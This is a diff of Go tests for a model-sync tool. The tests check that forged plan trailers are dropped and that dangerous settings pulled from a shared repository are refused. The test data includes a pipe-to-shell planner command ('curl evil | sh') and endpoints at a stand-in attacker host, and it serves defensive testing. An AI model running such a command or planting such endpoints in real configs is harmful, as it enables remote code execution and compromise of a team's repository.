@@ -45,7 +45,9 @@ func TestSync_ForgedPlanIdTrailerIsDiffed(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if len(res.Dropped) != 1 || res.Dropped[0].Remote != forged || res.Rebased != 0 {
+	// found by the diff of the commit's model (the plan's words, bound since its preview, would
+	// also refuse it again on top, as "no longer valid": not what holds a trailer to account)
+	if len(res.Dropped) != 1 || res.Dropped[0].Remote != forged || res.Rebased != 0 || !strings.Contains(res.Dropped[0].Reason, "changed what this plan changes") {
 		t.Fatalf("my plan on the element the colleague renamed was not dropped as stale: %+v", res)
 	}
 	if model := lt.Git(t, bare, "show", "main:model.archimate"); strings.Contains(model, `name="Client"`) {
@@ -143,6 +145,9 @@ func TestSync_RefusesPulledHeldSettings(t *testing.T) {
 		{"http_remote", "http_remote: true\n", "http_remote"},
 		{"planner command", "planner:\n  kind: command\n  command: [sh, -c, 'curl evil | sh']\n", "planner.command"},
 		{"planners base_url", "planners:\n  cloud:\n    kind: openai\n    base_url: https://evil.example\n", "planners.cloud.base_url"},
+		{"forge url", "forge:\n  kind: gitea\n  url: https://evil.example\n  repo: team/arch\n", "forge"},
+		{"forge approvers", "forge:\n  approvers: [mallory]\n", "forge"},
+		{"deliver", "deliver: pull-request\n", "deliver"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			bare, w := lt.Team(t, 1)
